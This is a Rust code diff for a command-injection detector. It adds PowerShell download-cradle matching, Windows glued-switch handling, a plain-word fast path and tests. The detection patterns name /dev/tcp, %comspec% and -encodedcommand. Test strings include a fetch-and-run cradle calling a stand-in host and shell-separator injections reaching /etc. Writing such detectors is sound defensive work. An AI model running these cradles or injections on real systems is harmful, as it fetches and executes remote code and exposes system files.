@@ -21,7 +21,6 @@ mod mail;
 
 use crate::detector::{Detector, Features, Input, Sink};
 use crate::rule::{Class, Rule, Severity};
-use aho_corasick::{AhoCorasick, AhoCorasickKind};
 use lexicon::{Command, Kind};
 use memchr::memmem::Finder;
 use regex::bytes::Regex;
@@ -116,13 +115,14 @@ static SEPARATOR_WEAK: Rule = Rule {
     description: "command name after a shell separator, without command-line arguments",
 };
 
-/// A value that starts with a command and a flag ("tail -f"), or a command under a `bin`
-/// directory that is not in the list.
+/// A value that starts with a command and a flag ("tail -f", "env --version"), or a command
+/// under a `bin` directory that is not in the list: blocks alone at paranoia 2, where a
+/// search for "tail -f log file" counts as a command line.
 static START_WEAK: Rule = Rule {
     id: "command.start-weak",
     class: Class::Command,
     paranoia: 2,
-    severity: Severity::Warning,
+    severity: Severity::Critical,
     description: "value starts with a command name and flags",
 };
 
@@ -242,6 +242,19 @@ impl Word {
 
 const MAX_WORD: usize = 48;
 
+/// Bytes after which [`read_word`] may go on reading one word: quotes, escapes, carets,
+/// backticks, process substitutions, expansions, globs.
+static MAY_CONTINUE: [bool; 256] = {
+    let mut t = [false; 256];
+    let bytes = b"'\"\\^`<>$[?*";
+    let mut k = 0;
+    while k < bytes.len() {
+        t[bytes[k] as usize] = true;
+        k += 1;
+    }
+    t
+};
+
 fn is_word_byte(b: u8) -> bool {
     b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'/' | b'+')
 }
@@ -250,6 +263,22 @@ fn is_word_byte(b: u8) -> bool {
 /// command name.
 fn read_word(s: &[u8], mut i: usize) -> Option<Word> {
     let start = i;
+    // Most words are plain: word bytes up to a byte that cannot continue one.
+    let plain = s[i..]
+        .iter()
+        .take(MAX_WORD + 1)
+        .take_while(|&&b| is_word_byte(b))
+        .count();
+    if plain <= MAX_WORD
+        && !s
+            .get(i + plain)
+            .is_some_and(|&b| MAY_CONTINUE[usize::from(b)])
+    {
+        if plain == 0 {
+            return None;
+        }
+        return finish_word(&s[i..i + plain], i..i + plain, false, false, false);
+    }
     let mut buf = [0u8; MAX_WORD];
     let mut len = 0usize;
     let mut quotes = 0u32;
@@ -403,38 +432,45 @@ fn read_word(s: &[u8], mut i: usize) -> Option<Word> {
     if quote_inside && quotes.is_multiple_of(2) && dquotes.is_multiple_of(2) {
         evasive = true;
     }
+    finish_word(&buf[..len], start..i, evasive, glob, shell_var)
+}
+
+/// The word whose bytes (quotes and insertions removed) are `full`: trailing punctuation
+/// dropped, the directory cut.
+fn finish_word(
+    mut full: &[u8],
+    span: Range<usize>,
+    evasive: bool,
+    glob: bool,
+    shell_var: bool,
+) -> Option<Word> {
     // A trailing `+` or `.` is punctuation, not part of the name.
-    while len > 0 && matches!(buf[len - 1], b'+' | b'.') {
-        len -= 1;
+    while let [rest @ .., b'+' | b'.'] = full {
+        full = rest;
     }
     let mut word = Word {
         name: [0; MAX_WORD],
         len: 0,
-        span: start..i,
+        span,
         evasive,
         glob,
         has_dir: false,
         bin_dir: false,
         shell_var,
     };
-    let full = &buf[..len];
-    match full.iter().rposition(|&c| c == b'/') {
+    let base = match full.iter().rposition(|&c| c == b'/') {
         Some(slash) => {
-            let dir = &full[..=slash];
             word.has_dir = true;
-            word.bin_dir = dir.ends_with(b"bin/");
-            let base = &full[slash + 1..];
-            word.name[..base.len()].copy_from_slice(base);
-            word.len = base.len();
+            word.bin_dir = full[..=slash].ends_with(b"bin/");
+            &full[slash + 1..]
         }
-        None => {
-            word.name[..len].copy_from_slice(full);
-            word.len = len;
-        }
-    }
-    if word.len == 0 {
+        None => full,
+    };
+    if base.is_empty() {
         return None;
     }
+    word.name[..base.len()].copy_from_slice(base);
+    word.len = base.len();
     Some(word)
 }
 
@@ -454,10 +490,15 @@ fn command_of(word: &Word) -> Option<Command> {
     if let Some(c) = lexicon::lookup(name) {
         return Some(c);
     }
-    let name = name.strip_suffix(b".exe").unwrap_or(name);
-    if let Some(c) = lexicon::lookup(name) {
-        return Some(c);
-    }
+    let name = match name.strip_suffix(b".exe") {
+        Some(base) => {
+            if let Some(c) = lexicon::lookup(base) {
+                return Some(c);
+            }
+            base
+        }
+        None => name,
+    };
     // Versioned interpreters: python3.10, php7.4, gcc10.1.
     let trimmed_len = name.len()
         - name
@@ -773,15 +814,17 @@ fn command_at(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
         }
         return;
     };
-    let Some(cmd) = command_of(&word) else {
-        if context == Context::Dollar {
-            sink.report(&SUBSTITUTION_WEAK, word.span.clone());
-        } else if context == Context::Start && word.bin_dir {
-            sink.report(&START_WEAK, word.span.clone());
-        }
-        return;
+    let (cmd, ev) = match command_of(&word) {
+        Some(cmd) => (cmd, evidence(s, word.span.end, cmd)),
+        // `bcdboot/r`: cmd.exe reads a switch glued to the command name.
+        None => match glued_switch(s, &word) {
+            Some(cmd) => (cmd, Evidence::Flag),
+            None => {
+                not_a_command(&word, context, sink);
+                return;
+            }
+        },
     };
-    let ev = evidence(s, word.span.end, cmd);
     if let Some(rule) = judge(s, context, &word, cmd, ev) {
         let end = s.len().min(word.span.end + 24);
         sink.report(rule, word.span.start..end);
@@ -795,6 +838,28 @@ fn command_at(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
     {
         command_at(s, next, Context::Wrapped, sink);
     }
+}
+
+/// A word that names no command: a `$(…)` still is shell syntax; `/usr/bin/x` still is a
+/// program.
+fn not_a_command(word: &Word, context: Context, sink: &mut Sink<'_>) {
+    if context == Context::Dollar {
+        sink.report(&SUBSTITUTION_WEAK, word.span.clone());
+    } else if context == Context::Start && word.bin_dir {
+        sink.report(&START_WEAK, word.span.clone());
+    }
+}
+
+/// An attacker's command with a one-letter Windows switch glued to it (`bcdboot/r`,
+/// `tasklist/v`): the word read as a path `bcdboot/` + `r`.
+fn glued_switch(s: &[u8], word: &Word) -> Option<Command> {
+    if !word.has_dir || word.len != 1 || !word.name[0].is_ascii_alphabetic() || word.evasive {
+        return None;
+    }
+    let text = &s[word.span.clone()];
+    let slash = text.iter().position(|&c| c == b'/')?;
+    let cmd = lexicon::lookup(&text[..slash])?;
+    (cmd.kind == Kind::Attack && text.len() == slash + 2).then_some(cmd)
 }
 
 /// `$a cat file`: an unset variable before the command expands to nothing.
@@ -831,7 +896,7 @@ fn assignment(s: &[u8], name: Range<usize>, sink: &mut Sink<'_>) {
         let var = &s[name.clone()];
         // Bounded, so that a value of many assignments stays linear.
         let rest = &s[word.span.end..s.len().min(word.span.end + 512)];
-        let used = memchr::memmem::find_iter(rest, b"$").any(|p| {
+        let used = memchr::memchr_iter(b'$', rest).any(|p| {
             let after = &rest[p + 1..];
             let after = after.strip_prefix(b"{").unwrap_or(after);
             after.starts_with(var)
@@ -868,7 +933,32 @@ static STOPS: [bool; 256] = {
     t
 };
 
+/// The bytes of a value that is one plain word (`order_total`, `tkt_0000000001`,
+/// `2024-06-01T12:34:56Z`, `priority-customer`): no blank, quote, separator, slash or
+/// expansion, so no command line; only a cradle name or `-encodedcommand` can be there.
+const PLAIN: Features = Features::LETTER
+    .union(Features::DIGIT)
+    .union(Features::UNDERSCORE)
+    .union(Features::DASH)
+    .union(Features::DOT)
+    .union(Features::COLON);
+
 fn scan(input: &Input<'_>, sink: &mut Sink<'_>) {
+    let s = input.lower;
+    // `+` is a blank in a query string: a value with one is not one word.
+    if input.features.union(PLAIN) == PLAIN
+        && !(input.features.any(Features::DASH) && s.contains(&b'+'))
+    {
+        if let Some(span) = windows(s, input.features) {
+            sink.report(&WINDOWS, span);
+        }
+        return;
+    }
+    scan_all(input, sink);
+}
+
+/// The whole scan.
+fn scan_all(input: &Input<'_>, sink: &mut Sink<'_>) {
     let s = input.lower;
     if s.is_empty() {
         return;
@@ -985,23 +1075,32 @@ fn scan(input: &Input<'_>, sink: &mut Sink<'_>) {
     }
 }
 
-static DEV: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"/dev/"));
-static PARENS: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"()"));
-static COMSPEC: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"%comspec%"));
-static ENCODED: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"-encodedcommand"));
-static WEBCLIENT: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"net.webclient"));
 static ALIAS_WORD: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"alias"));
 static FOR_WORD: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"for"));
 static IF_WORD: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"if"));
 
-/// PowerShell download cradles and decoders: plain words, so found in every value.
-#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
-static CRADLES: LazyLock<AhoCorasick> = LazyLock::new(|| {
-    AhoCorasick::builder()
-        .kind(Some(AhoCorasickKind::DFA))
-        .build(["downloadstring", "downloadfile", "frombase64string"])
-        .expect("constant patterns")
-});
+/// PowerShell download cradles and decoders, called as methods (`.DownloadString(`,
+/// `.DownloadFile(`, `::FromBase64String(`), and `Net.WebClient`: found from the `(` or `.`
+/// they hold, rarer than their letters.
+fn cradle(s: &[u8], features: Features) -> Option<Range<usize>> {
+    const CALLS: [&[u8]; 3] = [b"downloadstring", b"downloadfile", b"frombase64string"];
+    let call = if features.any(Features::PAREN) {
+        memchr::memchr_iter(b'(', s).find_map(|p| {
+            let before = &s[..p];
+            let name = CALLS.iter().find(|name| before.ends_with(name))?;
+            Some(p - name.len()..p)
+        })
+    } else {
+        None
+    };
+    let webclient = || {
+        memchr::memchr_iter(b'.', s).find_map(|p| {
+            let at = p.checked_sub(3)?;
+            s[at..].starts_with(b"net.webclient").then_some(at..at + 13)
+        })
+    };
+    call.or_else(|| features.any(Features::DOT).then(webclient).flatten())
+}
 
 #[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
 static FORK_BOMB: LazyLock<Regex> = LazyLock::new(|| {
@@ -1037,6 +1136,41 @@ fn first_ending(a: Option<Range<usize>>, b: Option<Range<usize>>) -> Option<Rang
     }
 }
 
+/// Download cradles, `%comspec%`, `-encodedcommand`.
+fn windows(s: &[u8], features: Features) -> Option<Range<usize>> {
+    // The shortest cradle is 13 bytes long.
+    let mut windows = if s.len() >= 13 {
+        cradle(s, features)
+    } else {
+        None
+    };
+    if features.any(Features::ESCAPE) {
+        let comspec = memchr::memchr_iter(b'%', s)
+            .find(|&p| s[p..].starts_with(b"%comspec%"))
+            .map(|p| p..p + 9);
+        windows = first_ending(windows, comspec);
+    }
+    if features.any(Features::DASH) {
+        let encoded = memchr::memchr_iter(b'-', s)
+            .find(|&p| s[p..].starts_with(b"-encodedcommand"))
+            .map(|p| p..p + 15);
+        windows = first_ending(windows, encoded);
+    }
+    windows
+}
+
+/// The function defined before `at` is then run as a command: `f(){ …; }; f`.
+fn invoked_after(s: &[u8], at: usize, name: &[u8]) -> bool {
+    let next = skip_blanks(s, at);
+    if !matches!(s.get(next), Some(b';' | b'&' | b'\n')) {
+        return false;
+    }
+    let call = skip_blanks(s, next + 1);
+    s[call..].starts_with(name)
+        && s.get(call + name.len())
+            .is_none_or(|&c| matches!(c, b' ' | b'\t' | b';' | b'&' | b'|' | b'\n'))
+}
+
 /// Fixed shapes, each searched only when the value holds the bytes it needs.
 fn shapes(s: &[u8], features: Features, sink: &mut Sink<'_>) {
     // `${ifs`, `$ifs`, `/dev/tcp/`, `/dev/udp/`.
@@ -1054,19 +1188,20 @@ fn shapes(s: &[u8], features: Features, sink: &mut Sink<'_>) {
         });
     }
     if features.any(Features::SLASH) {
-        let dev = DEV.find_iter(s).find_map(|p| {
-            let rest = &s[p + 5..];
-            (rest.starts_with(b"tcp/") || rest.starts_with(b"udp/")).then_some(p..p + 9)
+        let dev = memchr::memchr_iter(b'/', s).find_map(|p| {
+            let rest = &s[p..];
+            (rest.starts_with(b"/dev/tcp/") || rest.starts_with(b"/dev/udp/")).then_some(p..p + 9)
         });
         shell = first_ending(shell, dev);
     }
     if let Some(span) = shell {
         sink.report(&SHELL_SYNTAX, span);
     }
-    let parens = features.any(Features::PAREN) && PARENS.find(s).is_some();
+    let empty_parens = || memchr::memchr_iter(b'(', s).filter(|&p| s.get(p + 1) == Some(&b')'));
+    let parens = features.any(Features::PAREN) && empty_parens().next().is_some();
     if parens {
         // `() {` opening the value, or `() { :;` anywhere.
-        for p in PARENS.find_iter(s) {
+        for p in empty_parens() {
             let after = skip_blanks(s, p + 2);
             if s.get(after) == Some(&b'{') {
                 let before_blank = s[..p].iter().all(|c| c.is_ascii_whitespace());
@@ -1078,22 +1213,7 @@ fn shapes(s: &[u8], features: Features, sink: &mut Sink<'_>) {
             }
         }
     }
-    // The shortest cradle name is 12 bytes long.
-    let mut windows = if s.len() >= 12 {
-        CRADLES.find(s).map(|m| m.range())
-    } else {
-        None
-    };
-    if features.any(Features::ESCAPE) {
-        windows = first_ending(windows, COMSPEC.find(s).map(|p| p..p + 9));
-    }
-    if features.any(Features::DASH) {
-        windows = first_ending(windows, ENCODED.find(s).map(|p| p..p + 15));
-    }
-    if features.any(Features::DOT) {
-        windows = first_ending(windows, WEBCLIENT.find(s).map(|p| p..p + 13));
-    }
-    if let Some(span) = windows {
+    if let Some(span) = windows(s, features) {
         sink.report(&WINDOWS, span);
     }
     let alias = features.any(Features::EQUALS) && ALIAS_WORD.find(s).is_some();
@@ -1117,7 +1237,8 @@ fn shapes(s: &[u8], features: Features, sink: &mut Sink<'_>) {
                 let body = &s[name.end()..all.end()];
                 // The body runs the function as a command (`f | f &`), not as a call `f(`.
                 let runs_itself = memchr::memmem::find_iter(body, name.as_bytes())
-                    .any(|p| body.get(p + name.len()) != Some(&b'('));
+                    .any(|p| body.get(p + name.len()) != Some(&b'('))
+                    || invoked_after(s, all.end(), name.as_bytes());
                 if runs_itself && body.iter().any(|&c| c == b'|' || c == b'&') {
                     sink.report(&SHELL_SYNTAX, all.range());
                 }
@@ -1236,6 +1357,16 @@ mod tests {
         assert!(hits("if \"A A\" == \"A A\" echo same").contains(&"command.windows"));
         assert!(hits("test() { test | test & } test").contains(&"command.shell-syntax"));
         assert!(hits("function f() { f() || g }").is_empty());
+        assert!(hits("f(){ f() | f(); }; f").contains(&"command.shell-syntax"));
+        assert!(hits("f(){ f() & f(); }; f").contains(&"command.shell-syntax"));
+        assert!(hits("function f() { f() || g }; f(1)").is_empty());
+        assert!(hits("view=image.jpg&bcdboot/r file.txt").contains(&"command.separator"));
+        assert!(hits("tasklist/v").contains(&"command.start"));
+        assert!(hits("cd /;cd etc;bridge -b passwd").contains(&"command.separator"));
+        assert!(hits(";rmt-dump").contains(&"command.separator"));
+        for benign in ["and/or", "w/o", "tcp/ip", "n/a", "km/h", "I/O"] {
+            assert!(hits(benign).is_empty(), "{benign}");
+        }
         for tool in [
             "ansible-playbook site.yml",
             "ansible-galaxy collection install community.general",
@@ -1247,6 +1378,59 @@ mod tests {
         ] {
             assert!(!hits(tool).is_empty(), "{tool}");
         }
+    }
+
+    #[test]
+    fn plain_words_take_the_short_way() {
+        for value in [
+            "order_total",
+            "2024-06-01T12:34:56Z",
+            "priority-customer",
+            "whoami",
+            "ifconfig",
+            ".shell",
+            "python3.10:x",
+            "ansible-playbook",
+            "downloadstring",
+            "x.downloadfile",
+            "net.webclient",
+            "frombase64string",
+            "-encodedcommand",
+            "ls-la",
+            "a:b:c",
+        ] {
+            let mut lower = Vec::new();
+            let features = Features::lowercase(value.as_bytes(), &mut lower);
+            assert_eq!(features.union(PLAIN), PLAIN, "{value}");
+            let input = Input {
+                raw: value.as_bytes(),
+                text: value.as_bytes(),
+                lower: &lower,
+                features,
+                decoded_by: crate::decode::Decoders::default(),
+                part: Part::Query,
+                name: "q",
+                paranoia: 4,
+            };
+            let (mut quick, mut all) = (Vec::new(), Vec::new());
+            scan(&input, &mut Sink::new(&mut quick, 4));
+            scan_all(&input, &mut Sink::new(&mut all, 4));
+            let ids = |v: Vec<crate::detector::Match>| {
+                v.into_iter().map(|m| m.rule.id).collect::<Vec<_>>()
+            };
+            assert_eq!(ids(quick), ids(all), "{value}");
+        }
+        assert_eq!(hits("net.webclient"), ["command.windows"]);
+        for cradle in [
+            "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
+            "$c.DownloadFile('http://x.example/a','a.exe')",
+            "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ='))",
+        ] {
+            assert!(hits(cradle).contains(&"command.windows"), "{cradle}");
+        }
+        // The method's name alone is not a call.
+        assert!(hits("downloadstring").is_empty());
+        assert_eq!(hits("-EncodedCommand"), ["command.windows"]);
     }
 
     #[test]
